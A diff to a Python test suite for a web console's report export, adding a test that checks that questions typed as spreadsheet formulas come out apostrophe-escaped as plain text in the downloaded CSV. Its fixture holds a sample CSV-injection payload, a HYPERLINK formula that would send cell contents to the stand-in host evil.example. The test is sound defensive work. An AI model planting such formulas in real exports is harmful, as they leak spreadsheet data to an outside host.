@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from datetime import datetime, timedelta
 from zoneinfo import ZoneInfo
@@ -276,3 +278,19 @@ async def test_a_day_at_the_ends_of_the_calendar_is_refused_in_russian(web: Web)
     widest_period = {"since": "0001-01-02", "until": "9999-12-30"}
     widest = await web.client.get("/console/report", params=widest_period)
     assert widest.status_code == 200 and "<td>3</td>" in widest.text.replace(' class="num"', "")
+
+
+FORMULA_QUESTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "@SUM(1,1) ошибка")
+
+
+async def test_a_question_typed_as_a_formula_is_text_in_the_downloaded_csv(web: Web) -> None:
+    await _ask(web, FORMULA_QUESTIONS, "formula")
+    await web.operator("alla", Role.ANALYST)
+    await log_in(web.client, "alla")
+    download = await web.client.get("/console/report/unanswered.csv")
+    assert download.status_code == 200
+    header, *groups = csv.reader(io.StringIO(download.text.removeprefix("\ufeff")))
+    examples = {row[header.index("примеры")] for row in groups}
+    # Behind an apostrophe a spreadsheet shows what the citizen typed and runs nothing.
+    assert examples == {"'" + question for question in FORMULA_QUESTIONS}
+    assert [row[0] for row in groups] == ["1", "1"]  # the counts are still numbers
